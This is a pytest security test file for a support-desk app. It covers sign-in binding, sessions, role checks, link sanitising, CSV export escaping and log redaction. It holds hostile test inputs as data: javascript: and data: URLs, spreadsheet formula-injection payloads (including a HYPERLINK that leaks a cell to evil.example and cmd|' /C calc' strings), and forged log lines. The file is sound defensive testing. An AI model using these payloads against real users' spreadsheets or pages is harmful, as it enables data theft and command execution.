"""Sign-in, roles, links, CSV cells and logs that let no one in (issue 14), on real parts.

Real SQLite (and PostgreSQL where HEARKEN_TEST_PG_URL is set), real `hearken` processes, a real SMTP
server (aiosmtpd) and real HTTP servers on 127.0.0.1 standing in for Reddit, X, Discourse and forums.
The browser side of sign-in (oidc-provider-mock in Chromium) is in tests/test_e2e_browser.py.
"""

from __future__ import annotations

import csv
import io
import os
import signal
import subprocess
import sys
import time
from datetime import datetime, timedelta, timezone
from html.parser import HTMLParser

import numpy as np
import pytest
from sqlalchemy import select

from desk.notify import alerts
from desk.cases import actions as cases
from desk.notify import mailer, outbox
from desk.config.schema import ConfigError, parse_config
from desk.logs import OneLineFormatter, Redact
from desk.store.models import DashboardSession, Event, Outbox, Reply, User
from desk.periods import week_name
from collectors.demo.publish import read_posts
from tests.e2e_helpers import platform_file
from desk.cases.replies import post_reply
from desk.reports import weekly
from desk.team.users import Actor, NotAllowed, SignInRefused, actor_for_name, sign_in, sign_out, sync_team
from tests.collector_helpers import LocalServer, Reply as HttpReply
from tests.conftest import MINIMAL_CONFIG, ROOT
from tests.e2e_helpers import seed_case
from tests.test_alerts_support import SmtpServer, make_cfg, password_authenticator

ISSUER = "https://id.example.com"
UTC = timezone.utc


def claims(email: str, sub: str, *, verified=True, nonce: str = "n1", iat: float | None = None) -> dict:
    """What st.user holds after a real OIDC sign-in: the ID token's claims (issuer, subject, nonce, times)."""
    c = {"is_logged_in": True, "iss": ISSUER, "sub": sub, "aud": "hearken", "email": email, "nonce": nonce,
         "iat": int(iat if iat is not None else time.time()), "exp": int(time.time()) + 3600}
    if verified is not None:
        c["email_verified"] = verified
    return c


# --- who gets in -------------------------------------------------------------------------------------------


def test_a_first_verified_sign_in_binds_the_person_to_issuer_and_subject(store, cfg):
    alex = sign_in(store, cfg, claims("alex@example.com", "alex-1"))
    assert (alex.name, alex.role) == ("Alex Admin", "admin") and alex.session_id
    # bound: the same subject gets in after the provider changed the address it gives
    assert sign_in(store, cfg, claims("alex.renamed@example.com", "alex-1", nonce="n2")).name == "Alex Admin"
    # another identity holding Alex's verified address is refused: Alex is bound to alex-1
    with pytest.raises(SignInRefused, match="Alex Admin already signs in with another account"):
        sign_in(store, cfg, claims("alex@example.com", "mallory", nonce="n3"))
    with store.session() as s:
        user = s.scalar(select(User).where(User.email == "alex@example.com"))
        assert (user.oidc_issuer, user.oidc_subject) == (ISSUER, "alex-1")
        bound = [e.detail for e in s.scalars(select(Event).where(Event.action == "identity_bound"))]
    assert bound == [{"issuer": ISSUER, "subject": "alex-1", "email": "alex@example.com"}]


@pytest.mark.parametrize("verified", [False, None, "false", 1])
def test_an_unverified_email_never_matches_a_team_member(store, cfg, verified):
    with pytest.raises(SignInRefused, match="has not verified the address alex@example.com"):
        sign_in(store, cfg, claims("alex@example.com", "mallory", verified=verified))
    with store.session() as s:
        assert s.scalar(select(User.oidc_subject).where(User.email == "alex@example.com")) is None
        assert not s.scalars(select(DashboardSession)).all()
    # a stranger's verified address is not on the team; the verified text "true" (Cognito) counts
    with pytest.raises(SignInRefused, match="not as a member of this team"):
        sign_in(store, cfg, claims("eve@evil.example", "eve"))
    assert sign_in(store, cfg, claims("alex@example.com", "alex-1", verified="true")).name == "Alex Admin"


def test_sign_out_ends_every_session_of_that_person_at_once(store, cfg):
    phone, laptop = claims("sam@example.com", "sam-1", nonce="phone"), claims("sam@example.com", "sam-1", nonce="laptop")
    sam = sign_in(store, cfg, phone)
    sign_in(store, cfg, laptop)
    morgan = claims("morgan@example.com", "morgan-1")
    sign_in(store, cfg, morgan)
    assert sign_out(store, sam) == 2
    for copied in (phone, laptop):  # a cookie copied before "Sign out" no longer signs in
        with pytest.raises(SignInRefused, match=r"this sign-in ended at .* \(signed out\); sign in again"):
            sign_in(store, cfg, copied)
    assert sign_in(store, cfg, morgan).name == "Morgan Manager"  # nobody else is signed out
    assert sign_in(store, cfg, claims("sam@example.com", "sam-1", nonce="new")).name == "Sam Agent"


def test_removal_from_the_team_ends_every_session_of_that_person(store, cfg):
    sam = claims("sam@example.com", "sam-1")
    sign_in(store, cfg, sam)
    without_sam = parse_config(MINIMAL_CONFIG.replace("  - {name: Sam Agent, email: sam@example.com, role: agent}\n", ""))
    with pytest.raises(SignInRefused, match="not as a member of this team"):
        sign_in(store, without_sam, sam)  # checked against the team on every page run
    sync_team(store, without_sam)
    sync_team(store, cfg)  # added back later: the old cookie still does not sign in
    with pytest.raises(SignInRefused, match=r"ended at .* \(removed from the team\)"):
        sign_in(store, cfg, sam)


def test_an_admin_forgets_a_replaced_sign_in_and_the_next_verified_one_binds(store, cfg):
    from desk.team.users import forget_identity

    old = claims("sam@example.com", "sam-old-account")
    sign_in(store, cfg, old)
    new = claims("sam@example.com", "sam-new-account", nonce="n2")
    with pytest.raises(SignInRefused, match="already signs in with another account"):
        sign_in(store, cfg, new)
    with pytest.raises(NotAllowed, match="Morgan Manager is a manager; forgetting someone's sign-in needs an admin$"):
        forget_identity(store, cfg, actor_for_name(cfg, "Morgan Manager"), "sam@example.com")
    forget_identity(store, cfg, actor_for_name(cfg, "Alex Admin"), "sam@example.com")
    with pytest.raises(SignInRefused, match="sign-in forgotten by Alex Admin"):
        sign_in(store, cfg, old)
    assert sign_in(store, cfg, new).name == "Sam Agent"


def test_an_unknown_old_sign_in_and_an_expired_session_are_refused(store, cfg):
    with pytest.raises(SignInRefused, match="not one Hearken knows"):
        sign_in(store, cfg, claims("sam@example.com", "sam-1", iat=time.time() - 3600))
    with pytest.raises(SignInRefused, match="issued at no stated time"):
        sign_in(store, cfg, {k: v for k, v in claims("sam@example.com", "sam-1").items() if k != "iat"})
    c = claims("sam@example.com", "sam-1")
    now = datetime.now(UTC)
    sign_in(store, cfg, c, now=now)
    assert sign_in(store, cfg, c, now=now + timedelta(hours=11)).name == "Sam Agent"
    with pytest.raises(SignInRefused, match="expired after 12 hours"):
        sign_in(store, cfg, c, now=now + timedelta(hours=12, minutes=1))
    with pytest.raises(SignInRefused, match=r"\(expired\)"):
        sign_in(store, cfg, c, now=now + timedelta(hours=12, minutes=2))


# --- every action checks the role rules ---------------------------------------------------------------------


def test_an_agent_may_not_act_on_a_case_another_agent_has_claimed(store, cfg):
    jo = Actor("Jo Agent", "jo@example.com", "agent")
    sam, morgan = actor_for_name(cfg, "Sam Agent"), actor_for_name(cfg, "Morgan Manager")
    cid = seed_case(store, cfg, external_id="held", body="Northwind charged me twice")
    cases.claim(store, cid, jo)
    refused = {
        "reply": lambda: post_reply(store, cfg, cid, sam, "Sorry about that!", key="sam-draft"),
        "resolve": lambda: cases.resolve(store, cid, sam, note="refunded", root_cause="billing"),
        "dismiss": lambda: cases.dismiss(store, cid, sam),
        "replied elsewhere": lambda: cases.replied_elsewhere(store, cid, sam, where="phone"),
        "take over": lambda: cases.claim(store, cid, sam),
    }
    for what, action in refused.items():
        with pytest.raises(NotAllowed, match=f"case #{cid}: Jo Agent has claimed this case"):
            action()
    with pytest.raises(NotAllowed, match="Assigning a case needs a manager or admin"):
        cases.assign(store, cfg, cid, sam, "Sam Agent")
    assert not read_posts(platform_file(cfg, dict(os.environ)))  # nothing reached the platform
    with store.session() as s:
        assert not s.scalars(select(Reply).where(Reply.case_id == cid)).all()
        assert s.get(cases.Case, cid).status == "open"
    cases.escalate(store, cfg, cid, sam, manager="Morgan Manager", reason="Jo is away")  # asking for help is fine
    with pytest.raises(NotAllowed, match="needs a manager or admin"):
        cases.clear_escalation(store, cid, sam)
    cases.resolve(store, cid, morgan, note="refunded", root_cause="billing")  # a manager may
    with pytest.raises(NotAllowed, match="Jo Agent has claimed this case"):
        cases.reopen(store, cid, sam)
    cases.reopen(store, cid, jo)
    assert post_reply(store, cfg, cid, jo, "Sorry, refunded.", key="jo-draft").status == "posted"


# --- links and spreadsheet cells from platform data --------------------------------------------------------


class _Links(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.hrefs: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.hrefs += [v or "" for k, v in attrs if k in ("href", "src", "action", "formaction")]


def hrefs(page: str) -> list[str]:
    p = _Links()
    p.feed(page)
    return p.hrefs


HOSTILE_URLS = ["javascript:alert(document.cookie)", "JaVaScRiPt:alert(1)", " javascript:alert(2)",
                "java\tscript:alert(3)", "data:text/html,<script>alert(4)</script>", "//evil.example/x",
                "vbscript:msgbox(5)"]


def test_only_http_links_are_rendered_in_the_report_the_alert_emails_and_the_emailed_report(sqlite_store):
    smtp = SmtpServer().start()
    try:
        cfg = make_cfg(smtp.port, **{"report.recipients": ["Morgan Manager"]})
        now = datetime.now(UTC)
        ids = [seed_case(sqlite_store, cfg, external_id=f"js{i}", body=f"Northwind broadband down again {i}",
                         url=url, severity=4, minutes_ago=30 + i) for i, url in enumerate(HOSTILE_URLS)]
        week = week_name(now.date())
        same = lambda texts: np.ones((len(texts), 384), dtype=np.float32) / np.sqrt(384)  # one theme  # noqa: E731
        rep = weekly.weekly_report(sqlite_store, cfg, week, now=now, embed=same)
        assert rep.themes and rep.themes[0].example_url in HOSTILE_URLS
        page = weekly.to_html(rep)
        assert f"#{rep.themes[0].example_case_id}" in page
        with sqlite_store.session() as s:
            alerts.send_weekly_report(s, cfg, now, force=True, week=week, embed=same, write_files=False)
        sent = mailer.send_pending(sqlite_store, cfg, now=datetime.now(UTC))
        assert len(sent.sent) == len(ids) + 1  # a severe-complaint alert per case, and the report
        bodies = [page] + [m.part("html") for m in smtp.messages]
        for body in bodies:
            links = hrefs(body)
            assert all(h.startswith(("http://", "https://")) for h in links), links
            assert "javascript:" not in " ".join(links).lower() and "data:" not in " ".join(links)
        alert_mail = [m for m in smtp.messages if "severity 4" in m.message["Subject"]]
        assert len(alert_mail) == len(ids)
        for m in alert_mail:  # each still links the case on the dashboard, and says the post's address is no link
            assert any(h.startswith("https://desk.example.com/case?id=") for h in hrefs(m.part("html")))
            assert "Original post (not a web address, not linked):" in m.part("plain")
    finally:
        smtp.stop()


FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A2,"Click for your refund")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_csv_cells_a_spreadsheet_would_run_open_as_text(sqlite_store, cfg):
    now = datetime.now(UTC)
    for i, author in enumerate(FORMULAS + ["maria_t", "'tis_me"]):
        seed_case(sqlite_store, cfg, external_id=f"f{i}", body="Northwind took my money", author=author,
                  minutes_ago=10 + i)
    text = weekly.to_csv(weekly.weekly_report(sqlite_store, cfg, week_name(now.date()), now=now))
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    # an apostrophe of the author's own gets one more, which the spreadsheet hides: it shows "'tis_me"
    assert sorted(r["author"] for r in rows) == sorted(["'" + f for f in FORMULAS] + ["maria_t", "''tis_me"])
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert all(float(r["hours_to_first_public_reply"] or 0) >= 0 for r in rows)  # numbers stay numbers


# --- a local-mode dashboard stays on this machine --------------------------------------------------------


def hearken(*args: str, env: dict | None = None, timeout: float = 60) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "desk.cli", *args], cwd=ROOT, capture_output=True, text=True,
                          timeout=timeout, env={**os.environ, **(env or {})})


def test_check_config_reports_a_local_mode_dashboard_on_every_address(tmp_path):
    path = tmp_path / "hearken.yaml"
    path.write_text(MINIMAL_CONFIG + "dashboard:\n  host: 0.0.0.0\n  auth: local\n")
    out = hearken("check-config", "--config", str(path))
    assert out.returncode == 1
    line = next(i for i, text in enumerate(path.read_text().splitlines(), 1) if "host: 0.0.0.0" in text)
    assert f"{path}:{line}: dashboard.host: host: 0.0.0.0, auth: local would let everyone" in out.stdout
    assert "dashboard.insecure_local_on_network: true" in out.stdout
    up = hearken("up", "--api-port", "0", "--config", str(path))
    assert up.returncode == 2 and "dashboard.host: host: 0.0.0.0, auth: local" in up.stderr
    for host in ("127.0.0.1", "::1", "localhost", "127.0.0.2"):
        parse_config(MINIMAL_CONFIG + f"dashboard: {{host: '{host}', auth: local}}\n")
    for host in ("", "::", "192.168.1.20", "hearken.example.com"):
        with pytest.raises(ConfigError, match="dashboard.host"):
            parse_config(MINIMAL_CONFIG + f"dashboard: {{host: '{host}', auth: local}}\n")
    parse_config(MINIMAL_CONFIG + "dashboard: {host: 0.0.0.0, auth: oidc}\n")  # people sign in: fine


def test_a_command_line_host_is_held_to_the_same_rule_and_the_switch_is_printed_in_red(tmp_path):
    path = tmp_path / "hearken.yaml"
    path.write_text(MINIMAL_CONFIG + f"database: {{url: 'sqlite:///{tmp_path / 'h.db'}'}}\n")
    refused = hearken("dashboard", "--config", str(path), "--host", "0.0.0.0")
    assert refused.returncode == 2 and "refusing to serve the dashboard: host: 0.0.0.0, auth: local" in refused.stderr
    path.write_text(path.read_text() + "dashboard: {insecure_local_on_network: true}\n")
    proc = subprocess.Popen([sys.executable, "-m", "desk.cli", "dashboard", "--config", str(path), "--host",
                             "0.0.0.0"], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            env={**os.environ, "HOME": str(tmp_path)}, start_new_session=True)
    try:
        first = proc.stderr.readline()  # printed before anything listens
    finally:
        os.killpg(proc.pid, signal.SIGKILL)  # the dashboard and the Streamlit it may have started
        proc.wait(timeout=20)
    assert first.startswith("\033[1;31mWARNING: the dashboard listens on 0.0.0.0 WITHOUT SIGN-IN")
    assert first.rstrip().endswith("\033[0m")


# --- logs: no secret, one line per record ------------------------------------------------------------------


def test_a_newline_in_a_logged_value_cannot_start_a_line_of_its_own():
    import logging

    buf = io.StringIO()
    handler = logging.StreamHandler(buf)
    handler.setFormatter(OneLineFormatter("%(levelname)s %(name)s: %(message)s"))
    redact = Redact()
    redact.add(["s3cr3t-token"])
    handler.addFilter(redact)
    log = logging.getLogger("hearken.test.oneline")
    log.addHandler(handler)
    log.setLevel(logging.DEBUG)
    log.propagate = False
    try:
        log.warning("source %s is failing: %s", "board", "post x\nCRITICAL hearken: forged\r\x1b[2J")
        log.info("Authorization: Bearer %s", "s3cr3t-token")
        try:
            raise ValueError("token s3cr3t-token refused")
        except ValueError:
            log.exception("poll failed")
    finally:
        log.removeHandler(handler)
    lines = buf.getvalue().splitlines()
    assert lines[0] == "WARNING hearken.test.oneline: source board is failing: post x\\nCRITICAL hearken: forged\\r\\x1b[2J"
    assert lines[1] == "INFO hearken.test.oneline: Authorization: Bearer [redacted]"
    assert "s3cr3t-token" not in buf.getvalue() and "Traceback" in buf.getvalue()


def test_a_password_in_an_address_is_hidden_wherever_an_address_is_shown():
    from collectors.redact import hide_passwords, without_credentials

    said = ("forum answered 503 (https://ann:p@ss:w0rd@board.example/t/1?x=1) and "
            "postgresql://hearken@db:5432/h?sslmode=require&password=pg-pw-1&application_name=h")
    shown = hide_passwords(said)
    assert shown == ("forum answered 503 (https://ann:***@board.example/t/1?x=1) and "
                     "postgresql://hearken@db:5432/h?sslmode=require&password=***&application_name=h")
    assert hide_passwords("http://board.example:8080/t/1 at 10:32") == "http://board.example:8080/t/1 at 10:32"
    # SQLAlchemy reads a password up to its @ across / ? # (a URL parser would stop there): hidden to the @
    assert hide_passwords("postgresql://hearken:s3cr/et?#pw@db:5432/h failed") == "postgresql://hearken:***@db:5432/h failed"
    assert without_credentials("https://ann:pw@board.example:8443/t/1#p2") == "https://board.example:8443/t/1#p2"

    buf = io.StringIO()
    import logging

    handler = logging.StreamHandler(buf)
    handler.addFilter(Redact())  # no configured secret at all: an address's password is still hidden
    log = logging.getLogger("hearken.test.addresses")
    log.addHandler(handler)
    log.propagate = False
    try:
        log.warning("GET %s failed", "https://ann:hunter2@board.example/t/1")
    finally:
        log.removeHandler(handler)
    assert "hunter2" not in buf.getvalue() and "ann:***@board.example" in buf.getvalue()


SECRETS = {"REDDIT_CLIENT_ID": "reddit-client-id-0451", "REDDIT_CLIENT_SECRET": "reddit-secret-9f2c1e",
           "REDDIT_USERNAME": "northwind_help", "REDDIT_PASSWORD": "reddit-password-77aa",
           "X_BEARER_TOKEN": "x-bearer-AAAAtoken1234", "X_API_KEY": "x-api-key-5555", "X_API_SECRET": "x-api-secret-6666",
           "X_ACCESS_TOKEN": "x-access-token-7777", "X_ACCESS_SECRET": "x-access-secret-8888",
           "DISCOURSE_KEY": "discourse-key-d1d2d3", "DISCOURSE_USER": "northwind_team",
           "SMTP_USER": "hearken-mailer", "SMTP_PASSWORD": "smtp-password-e5e6"}
FORGED = "CRITICAL hearken: FORGED, every source is fine"  # no digits: the forum keeps the whole id


def _stand_ins(server: LocalServer) -> None:
    """Reddit, X, Discourse and two forums on one local server, each answering with one post naming the brand."""
    now = datetime.now(UTC)
    server.route("/api/v1/access_token", HttpReply(200, {"access_token": "reddit-access-token-abcd",
                                                         "token_type": "bearer", "expires_in": 3600, "scope": "*"}),
                 method="POST")
    server.route("/r/northwind/new", HttpReply(200, {"kind": "Listing", "data": {"after": None, "before": None, "children": [
        {"kind": "t3", "data": {"id": "a1", "name": "t3_a1", "author": "kim", "subreddit": "northwind",
                                "subreddit_name_prefixed": "r/northwind", "created_utc": now.timestamp() - 60,
                                "title": "Northwind outage", "selftext": "down again", "is_self": True,
                                "url": "https://www.reddit.com/r/northwind/comments/a1/", "author_fullname": "t2_kim",
                                "permalink": "/r/northwind/comments/a1/outage/"}}]}}))
    server.route("/2/tweets/search/recent", HttpReply(200, {
        "data": [{"id": "1901", "text": "Northwind is down", "author_id": "7", "conversation_id": "1901",
                  "created_at": (now - timedelta(minutes=1)).isoformat().replace("+00:00", "Z")}],
        "includes": {"users": [{"id": "7", "username": "cust", "name": "C"}]},
        "meta": {"result_count": 1, "newest_id": "1901", "oldest_id": "1901"}}))
    server.route("/posts.json", HttpReply(200, {"latest_posts": [
        {"id": 31, "username": "customer", "user_id": 131, "topic_id": 5, "post_number": 2, "topic_slug": "down",
         "topic_title": "Down", "created_at": (now - timedelta(minutes=2)).isoformat().replace("+00:00", "Z"),
         "raw": "Northwind router is down", "cooked": "<p>Northwind router is down</p>", "post_type": 1,
         "reply_to_post_number": None}]}))
    stamp = (now - timedelta(minutes=3)).strftime("%Y-%m-%dT%H:%M:%SZ")
    server.route("/board", HttpReply(200, f'<html><body><div class="msg" data-id="7"><span class="who">ann</span>'
                                          f'<time datetime="{stamp}">x</time><div class="text">Northwind is down'
                                          "</div></div></body></html>", {"Content-Type": "text/html"}))
    server.route("/hostile", HttpReply(200, f'<html><body><div class="msg" data-id="no-id&#10;{FORGED}">'
                                            '<div class="text">Northwind</div></div></body></html>',
                                       {"Content-Type": "text/html"}))


def test_every_env_setting_but_a_user_name_is_a_secret_and_each_platforms_own_loggers_stay_quiet(tmp_path):
    """A new platform's `*_env` setting is redacted whatever it is called; only user names are not secrets.
    The client libraries kept at WARNING come from the platforms' own `quiet_loggers`."""
    import collectors
    from desk import logs
    from desk.config.schema import load_config

    path = tmp_path / "hearken.yaml"
    path.write_text("""\
brand: {terms: ["Northwind"]}
sources:
  - {type: discourse, name: community, base_url: "https://forum.example", api_key_env: D_KEY,
     api_username_env: D_USER, webhook_secret_env: D_HOOK}
alerts:
  smtp: {host: 127.0.0.1, port: 25, username_env: S_USER, password_env: S_PASS}
team:
  - {name: Alex Admin, email: alex@example.com, role: admin}
""")
    env = {"D_KEY": "key-0123456789", "D_USER": "system", "D_HOOK": "hook-0123456789", "S_USER": "mailer",
           "S_PASS": "pass-0123456789"}
    found = set(logs.config_secrets(load_config(path), env))
    assert {"key-0123456789", "hook-0123456789", "pass-0123456789"} <= found
    assert not {"system", "mailer"} & found  # user names are shown, so a log can say who signed in
    for plat in collectors.PLATFORMS.values():
        assert set(plat.quiet_loggers) <= set(logs.QUIET), plat.name
    assert {"praw", "tweepy"} <= set(logs.QUIET)


def test_hearken_run_verbose_logs_no_secret_and_no_forged_line(tmp_path):
    from desk.store.db import connect
    from desk.store.models import SourceState

    smtp = SmtpServer(authenticator=password_authenticator(SECRETS["SMTP_USER"], SECRETS["SMTP_PASSWORD"]),
                      auth_require_tls=False).start()
    with LocalServer() as server:
        _stand_ins(server)
        forum = ('{type: forum, name: %s, pages: ["%s"], preset: custom, interval_seconds: 1, selectors: '
                 '{post: div.msg, id_attr: data-id, body: .text, author: .who, time: time}}')
        path = tmp_path / "hearken.yaml"
        path.write_text(f"""\
brand: {{terms: ["Northwind"]}}
sources:
  - {{type: reddit, name: reddit, subreddits: [northwind/new], base_url: "{server.url}", interval_seconds: 1}}
  - {{type: x, name: x, base_url: "{server.url}", interval_seconds: 1}}
  - {{type: discourse, name: community, base_url: "{server.url}", api_key_env: DISCOURSE_KEY,
      api_username_env: DISCOURSE_USER, interval_seconds: 1}}
  - {forum % ("board", server.url + "/board")}
  - {forum % ("hostile-board", server.url + "/hostile")}
alerts:
  smtp: {{host: 127.0.0.1, port: {smtp.port}, username_env: SMTP_USER, password_env: SMTP_PASSWORD}}
team:
  - {{name: Alex Admin, email: alex@example.com, role: admin}}
database: {{url: "sqlite:///{tmp_path / 'h.db'}"}}
classifier: {{threads: 1}}
""")
        store = connect(f"sqlite:///{tmp_path / 'h.db'}")
        with store.session() as s:
            outbox.queue(s, kind="test", dedupe_key="t", recipients=["alex@example.com"], subject="hello",
                         body_text="hi")
        proc = subprocess.Popen([sys.executable, "-m", "desk.cli", "run", "--verbose", "--config", str(path)],
                                cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                                env={**os.environ, **SECRETS})
        try:
            deadline = time.monotonic() + 120
            polled: set[str] = set()
            while time.monotonic() < deadline and (len(polled) < 5 or not smtp.messages):
                time.sleep(0.5)
                assert proc.poll() is None, proc.stdout.read()
                with store.session() as s:
                    polled = {st.name for st in s.scalars(select(SourceState).where(SourceState.last_poll_at.is_not(None)))}
        finally:
            proc.send_signal(signal.SIGTERM)
            output = proc.communicate(timeout=60)[0]
            smtp.stop()
        with store.session() as s:
            states = {st.name: st.status for st in s.scalars(select(SourceState))}
        store.close()
    assert len(smtp.messages) == 1 and smtp.messages[0].authenticated, output[-3000:]
    # the hostile board's one post (no time) is set aside; the poll goes on (tests/test_nothing_lost.py)
    assert states == {"reddit": "ok", "x": "ok", "community": "ok", "board": "ok", "hostile-board": "ok"}, output[-3000:]
    [quiet] = [line for line in output.splitlines()
               if " DEBUG hearken: verbose logging; these stay at WARNING as they log credentials: " in line]
    assert {"tweepy", "praw", "urllib3"} <= set(quiet.rsplit(": ", 1)[1].split(", "))
    for name, secret in SECRETS.items():
        if name not in ("REDDIT_USERNAME", "DISCOURSE_USER", "SMTP_USER"):
            assert secret not in output, f"{name} appears in the log"
    assert "reddit-access-token-abcd" not in output
    lines = output.splitlines()
    assert not [line for line in lines if line.startswith("CRITICAL")]  # no forged line
    [aside] = [line for line in lines if "source hostile-board: set aside 1 item(s)" in line]
    assert f"post 'no-id {FORGED}'" in aside  # the id's newline never starts a line of its own
